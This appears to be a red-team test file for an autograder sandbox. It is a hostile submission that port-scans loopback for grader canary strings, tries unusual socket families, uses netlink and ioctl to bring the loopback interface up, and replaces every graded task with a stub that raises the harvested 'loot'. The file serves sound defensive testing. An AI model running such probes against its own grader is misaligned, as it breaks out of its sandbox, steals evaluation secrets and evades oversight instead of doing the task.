"""Tries to reach the grader over the network: loopback ports, sockets of other families, a shell that calls home.

fails: *

attack: V17
stopped by: C, a network namespace of its own in which not even loopback is up; other socket families are denied.
"""

# %% helpers="helpers"
# Loopback only, so that it harms nobody where nothing stops it.
import ctypes
import re
import socket
import struct

FORM = re.compile(rb"autograder-canary-[0-9a-f]{32}")
LOOT = []
for host, family in (("127.0.0.1", socket.AF_INET), ("::1", socket.AF_INET6)):
    for port in (*range(1, 65_536, 7), 22, 80, 8888, 8000, 6379):
        with socket.socket(family) as sock:
            sock.settimeout(0.05)
            if sock.connect_ex((host, port)) == 0:
                LOOT.append(f"connected to {host}:{port}")
                try:
                    LOOT.extend(FORM.findall(sock.recv(1 << 12)))
                except OSError:
                    pass
for family, kind in ((16, 3), (17, 3), (40, 1), (38, 5), (29, 3), (2, 3)):  # netlink, packet, vsock, alg, can, raw
    try:
        with socket.socket(family, kind) as sock:
            LOOT.append(f"a socket of family {family}")
            if family == 16:
                sock.send(struct.pack("=LHHLLBxHiLL", 32, 16, 1, 1, 0, 0, 0, 1, 1, 1))  # "lo" up
    except OSError as error:
        print(family, error)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        ctypes.CDLL(None).ioctl(sock.fileno(), 0x8914, struct.pack("16sh22x", b"lo", 1))  # "lo" up
        sock.sendto(b"hostile", ("127.0.0.1", 53))
        LOOT.append("sent a datagram")
except OSError as error:
    print(error)
print(*LOOT)


def answer(*args, **kwargs):
    raise RuntimeError(f"loot: {LOOT}")


# %% task="kv_bytes_per_token"
kv_bytes_per_token = answer

# %% task="kv_cache_bytes"
kv_cache_bytes = answer

# %% task="max_concurrency"
max_concurrency = answer

# %% task="max_model_len_that_fits"
max_model_len_that_fits = answer

# %% task="BlockPool"
BlockPool = answer

# %% task="PagedKVCacheManager"
PagedKVCacheManager = answer

# %% task="PagedAttentionLayer"
PagedAttentionLayer = answer

# %% task="QuantizedKVLayer"
QuantizedKVLayer = answer

# %% task="sliding_window_evict"
sliding_window_evict = evict_blocks = answer
